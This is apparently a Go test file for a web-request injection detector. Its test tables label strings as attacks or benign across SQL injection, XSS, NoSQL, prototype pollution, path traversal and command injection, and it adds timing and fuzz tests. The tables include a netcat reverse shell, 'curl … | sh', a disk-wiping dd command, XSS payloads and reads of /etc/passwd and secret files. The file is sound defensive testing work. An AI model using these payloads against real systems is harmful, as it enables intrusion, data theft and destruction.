package injection

import (
	"runtime"
	"strings"
	"testing"
	"time"
)

type detectCase struct {
	in   string
	want bool
}

var detectTables = map[string]struct {
	fn    func(string) bool
	cases []detectCase
}{
	"sqli": {detectSQLi, []detectCase{
		{"' OR '1'='1", true}, {"1 UNION SELECT username, password FROM users", true}, {"1' AND SLEEP(5)--", true},
		{"admin'--", true}, {"1; DROP TABLE users", true}, {"1 or 1=1", true}, {"' union/**/select null--", true},
		{"O'Brien", false}, {"select the best option from the list", false}, {"if (a < b && c > d) { x = 1; }", false},
		{`he said "or" not`, false}, {"5 > 3 and 2 < 4", false}, {"The union select committee met", false},
		{"Haßelt (1599).", false}, {"time.sleep(1)", false},
	}},
	"xss": {detectXSS, []detectCase{
		{"<script>alert(1)</script>", true}, {"<img src=x onerror=alert(1)>", true}, {"javascript:alert(1)", true},
		{"\" onmouseover=\"alert(1)", true}, {"{{constructor.constructor('alert(1)')()}}", true}, {"<svg/onload=alert(1)>", true},
		{"<b>bold</b>", false}, {`<a href="https://example.com">x</a>`, false}, {"JavaScript: the good parts", false},
		{`<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><title>Heart <3</title><path d="M12 21.35z"/></svg>`, false},
		{`<svg xmlns="http://www.w3.org/2000/svg"><title>x <3</title><a href="javascript:alert(1)">y</a></svg>`, true},
		{`<!DOCTYPE html><html><head><meta charset="utf-8"><title>May</title><style>body{font-family:Arial} .btn{color:#fff}</style></head><body><p>Hi</p></body></html>`, false},
		{`<meta charset="UTF-8">`, true}, {`<html><head><meta charset="UTF-7"></head></html>`, true},
		{`<html><head><meta http-equiv="refresh" content="0;url=https://evil.example"></head></html>`, true},
		{`<style>@import url(//evil.example/x.css)</style>`, true}, {`<style>x{}</style><svg onload=alert(1)>`, true},
		{`<p class="MsoNormal"><span style="font-family:Calibri">Wash at 30°<o:p></o:p></span></p><!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml><![endif]-->`, false},
		{"<!--[if gte mso 9]><script>alert(1)</script><![endif]--><p>x</p>", true}, {"<p><o:p onmouseover=alert(1)>x</o:p></p>", true},
		{`<div>On Tue, Support &lt;support@example.com&gt; wrote:<br></div><blockquote style="border-left:1px solid rgb(204,204,204)">ok</blockquote>`, false},
		{`<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 120 40"><style>.t{font:700 18px sans-serif;fill:#c00}</style><text class="t" x="0" y="20">SALE</text></svg>`, false},
		{`<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(//x)</style></svg>`, true},
		{"<pre><code class=\"language-js\">document.querySelector('#t').addEventListener('click', () =&gt; {\n  window.location.href = '/orders?o=' + id;\n});</code></pre>", false},
		{"<p>alert(document.cookie)</p>", true}, {"<pre><code><img src=x onerror=alert(1)></code></pre>", true},
		{`<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 120 40"><defs><linearGradient id="g"><stop offset="0" stop-color="#f60"/></linearGradient></defs><rect width="120" height="40" fill="url(#g)"/></svg>`, false},
		{`<svg xmlns="http://www.w3.org/2000/svg"><rect fill="url(#g)"/><a href="javascript:alert(1)">x</a></svg>`, true},
		{"Prove that if |x - 2| < 1 then 1 < x < 3.", false}, {"1 < x", false}, {"1<x onmouseover=alert(1)>", true},
		{"- strips `javascript:` URLs (see security guideline)", false}, {"<a href=`javascript:alert(1)`>", true},
		{"(javascript:alert(1))", true},
		{"style=color:red;background:white", false}, {"a < b > c", false}, {"alert('Saved!')", false},
	}},
	"nosql": {detectNoSQL, []detectCase{
		{`{"$ne": null}`, true}, {`user[$regex]=.*`, true}, {`{"$where":"this.a == 1"}`, true},
		{"$100 price", false}, {"costs $gt than", false},
	}},
	"proto": {detectProtoValue, []detectCase{
		{"__proto__[isAdmin]=1", true}, {"constructor[prototype][x]", true}, {"__proto__.x=1", true},
		{"The prototype is ready", false}, {"proto buffers", false},
	}},
	"traversal": {detectTraversal, []detectCase{
		{"go test -race ./...", false}, {"go vet github.com/acme/app/...", false}, {"a/b/..", true}, {"../x", false}, {"../../WEB-INF/web.xml", true}, {"../../../lib/x.js", true}, {"see ../setup/install.md#prereq", false}, {"/static/../x", true}, {"..%2e/x", true}, {"..%252fx", true}, {"../.env", true}, {"../config.php", true},
		{`..\shared\appsettings.shared.json`, false}, {`..\pineapple`, true}, {`..\..\..\boot.ini`, true},
		{"src/a.ts|src/app.tsx|../shared/types.ts", false}, {"a|../../etc/passwd", true},
		{"/var/log/acme", false}, {"/var/log/backup.log", false}, {"/var/log/nginx/access.log", true},
		{"/var/log/apache2/access.log", true}, {"/var/log/auth.log", true}, {"/var/run/secrets/kubernetes.io/serviceaccount/token", true},
		{"../../etc/passwd", true}, {`..\..\windows\win.ini`, true}, {"/proc/self/environ", true}, {"....//....//etc", true},
		{"../.env", true}, {"docs/getting-started.md", false}, {"Wait... what?", false}, {"../ means parent", false},
		{"firstname.dockery@host.tld", false}, {"/test.environment", false}, {`C:\Users\Public`, false},
	}},
	"cmdi": {func(s string) bool { return detectCmdi(s, true) }, []detectCase{
		{"TaskList", false}, {"tasklist", true}, {"whoami", true},
		{`title =~ /^\[(bug|BUG)\]/`, false}, {"cat /e[t]c/p[a]sswd", true}, {"; ls /[b]in", true},
		{`^[a-z0-9._%+-]+@[a-z0-9.-]+\.[a-z]{2,}$`, false}, {`^[a-z0-9._% -] @[a-z0-9.-] \.[a-z]{2,}$`, false},
		{`^(feat|fix)(\(.+\))?: .+$`, false}, {"^x$ | nc -e /bin/sh 10.0.0.1 4444 $", true}, {"^x$; cat /etc/passwd $", true},
		{"/static/*", false}, {"/bin/c*t /etc/passwd", true}, {"/???/??t /etc/passwd", true}, {"; /bin/ca* x", true},
		{"return encodeURIComponent(id);", false}, {"x;(id)", true}, {"x$(id)", true}, {"a\n(id)", true},
		{`cur.execute("SELECT * FROM t WHERE id = %s", (id,))`, false}, {";{cat,/etc/passwd}", true}, {"x;{ls,-la,/}", true},
		{"s3cr3t&More", false}, {"127.0.0.1&ls", true}, {"localhost&dir", true}, {"x;more", true}, {"x&more /etc/passwd", true}, {"127.0.0.1&whoami", true},
		{"rm -rf node_modules didn't help", false}, {"rm -rf node_modules", true}, {"rm -rf / '", true},
		{"ls -la /var/www/ it's", false}, {"ls -la; echo 'x", true},
		{"grep -rn \"console.log\" src/ | wc -l gives 214. Use eslint no-console rule.", false},
		{"npm run build && npm test then check the output of the coverage report", false},
		{"grep -rn x src/ | wc -l gives 214; cat /etc/passwd is what I ran after", true},
		{"grep -rn x src/ gives 214 results here and then; whoami said root", true},
		{"grep -rn x src/ | sh gives 214 results here and then some", true},
		{"dd/MM/yyyy", false}, {"dd.MM.yyyy HH:mm", false}, {"; dd if=/dev/zero of=/dev/sda", true},
		{"; /bin/c?t /e??/p?sswd", true}, {";/????/??t /????/p??s??", true}, {"; sleep 10 #", true},
		{"see /products?sort=price for details", false}, {"I need sleep 8 hours", false},
		{"The button shows `&lt;b&gt;Export&lt;/b&gt;` literally instead of bold text.", false},
		{"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB/Pp", false},
		{".a { background: url(\"/img/bg.png\") } /* header */ .b > span { color: red; }", false},
		{"1&lt;2; cat /etc/passwd", true}, {"x;base64 -d <<< eA== | sh", true}, {"cat /* x */ {a}; ls /*", true},
		{"$(document).ready(function(){ $('#menu').toggle(); });", false}, {"$(this).hide()", false},
		{"$(id)", true}, {"x$(whoami)", true}, {"$(document)$(id)", true}, {"| net user", true},
		{"; cat /etc/passwd", true}, {"| whoami", true}, {"$(id)", true}, {"`id`", true}, {";${IFS}cat${IFS}/etc/passwd", true},
		{"; w'h'o'am'i", true}, {"127.0.0.1 && curl http://x/y | sh", true}, {"\nid\n", true}, {"/etc/pas[s]wd", true},
		{"cats; dogs; birds", false}, {"Tom & Jerry", false}, {"AT&T", false}, {"Time | Date | Place", false},
		{"Use `ls -la` to list files in the directory", false}, {"python tutorial", false}, {"curl/8.4.0", false},
		{"Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0", false}, {"a hero; more than", false},
	}},
}

func TestDetectors(t *testing.T) {
	for fam, tab := range detectTables {
		for _, c := range tab.cases {
			t.Run(fam+"/"+c.in, func(t *testing.T) {
				if got := tab.fn(c.in); got != c.want {
					t.Errorf("%s(%q) = %v, want %v", fam, c.in, got, c.want)
				}
			})
		}
	}
}

func TestDetectPathTraversal(t *testing.T) {
	tests := []detectCase{{"/.git/HEAD", true}, {"/.env", true}, {"/backup.sql.zip", true}, {"/a/../../etc/passwd", true},
		{"/.well-known/openid-configuration", false}, {"/api/v1/users", false}, {"/static/app.min.js", false}}
	for _, tt := range tests {
		if got := detectPathTraversal(tt.in); got != tt.want {
			t.Errorf("detectPathTraversal(%q) = %v, want %v", tt.in, got, tt.want)
		}
	}
}

func TestNoSQLOperatorKey(t *testing.T) {
	for k, want := range map[string]bool{"$ne": true, "$Where": true, "$gte": true, "ne": false, "$price": false, "$": false} {
		if got := isNoSQLOperatorKey(k); got != want {
			t.Errorf("isNoSQLOperatorKey(%q) = %v, want %v", k, got, want)
		}
	}
}

// TestDetectorsLinear asserts that the detectors run in linear time on adversarial inputs (RE2
// and libinjection are linear; a hand-written scanner that rescans from every position would not
// be). Each input is run at n and 8n bytes, through every decoded variant and every family at
// sensitivity 4, as a request value is: linear work takes 8 times as long at 8n, quadratic work
// 64 times. The test compares the two durations, not either one with a threshold, so a slow or
// busy machine slows both alike: the sizes are interleaved, each size's fastest run counts (noise
// only ever adds time), and a ratio over the bound is measured again before it fails the test.
// The same measurement of a deliberately quadratic function must exceed the bound, so the test
// can tell the two apart on this machine.
func TestDetectorsLinear(t *testing.T) {
	detect := func(in string) {
		for _, v := range valueVariants(in, true, nil) {
			detectAll(v, LocBody, false, famAll, 4)
		}
	}
	inputs := []struct {
		name, unit string
		count      int // repetitions of unit at 8n
	}{
		{"quote run", "'", 1 << 20},
		{"open brackets", "[", 1 << 20},
		{"tag starts", "<a ", 1 << 18},
		{"command separators", ";cat ", 1 << 17},
		{"dot segments", "../", 1 << 18},
		{"encoded percent", "%25", 1 << 18},
	}
	for _, in := range inputs {
		t.Run(in.name, func(t *testing.T) {
			small, large := strings.Repeat(in.unit, in.count/8), strings.Repeat(in.unit, in.count)
			ratio, ok := growth(func() { detect(small) }, func() { detect(large) }, func(r float64) bool { return r <= linearBound })
			t.Logf("%d → %d bytes: %.1fx the time", len(small), len(large), ratio)
			if !ok {
				t.Errorf("%d → %d bytes took %.1fx the time (linear: 8x, quadratic: 64x, bound %.0fx): not linear", len(small), len(large), ratio, linearBound)
			}
		})
	}
	t.Run("a quadratic function is told apart", func(t *testing.T) {
		quadratic := func(s string) {
			n := 0
			for i := range len(s) {
				n += strings.Count(s[:i], "b") // rescans the prefix: n²/2 bytes in all
			}
			linearSink = n
		}
		small, large := strings.Repeat("a", 1<<12), strings.Repeat("a", 1<<15)
		ratio, ok := growth(func() { quadratic(small) }, func() { quadratic(large) }, func(r float64) bool { return r > linearBound })
		t.Logf("quadratic: %d → %d bytes: %.1fx the time", len(small), len(large), ratio)
		if !ok {
			t.Errorf("a quadratic function took only %.1fx the time at 8n (bound %.0fx): the measurement cannot tell linear from quadratic", ratio, linearBound)
		}
	})
}

// linearBound is the largest time ratio between 8n and n accepted as linear: 8 for linear work, 4x
// slack for caches and garbage collection, and still half of the 64 that quadratic work takes.
const linearBound = 32.0

var linearSink int

// growth measures small and large in interleaved rounds and returns the ratio of their fastest
// runs, with whether accept held for it. It stops as soon as accept holds after two rounds, and
// measures at most six rounds, so a ratio distorted by a busy machine is measured again.
func growth(small, large func(), accept func(float64) bool) (float64, bool) {
	fastest := func(f func(), best time.Duration) time.Duration {
		runtime.GC()
		start := time.Now()
		f()
		if d := time.Since(start); best == 0 || d < best {
			return d
		}
		return best
	}
	var s, l time.Duration
	ratio := 0.0
	for round := 1; round <= 6; round++ {
		s, l = fastest(small, s), fastest(large, l)
		ratio = float64(l) / float64(max(s, time.Microsecond))
		if round >= 2 && accept(ratio) {
			return ratio, true
		}
	}
	return ratio, false
}

func fuzzDetector(f *testing.F, fam string) {
	for _, c := range detectTables[fam].cases {
		f.Add(c.in)
	}
	fn := detectTables[fam].fn
	f.Fuzz(func(t *testing.T, s string) { fn(s) })
}

func FuzzDetectSQLi(f *testing.F)      { fuzzDetector(f, "sqli") }
func FuzzDetectXSS(f *testing.F)       { fuzzDetector(f, "xss") }
func FuzzDetectNoSQL(f *testing.F)     { fuzzDetector(f, "nosql") }
func FuzzDetectProto(f *testing.F)     { fuzzDetector(f, "proto") }
func FuzzDetectTraversal(f *testing.F) { fuzzDetector(f, "traversal") }
func FuzzDetectCmdi(f *testing.F)      { fuzzDetector(f, "cmdi") }
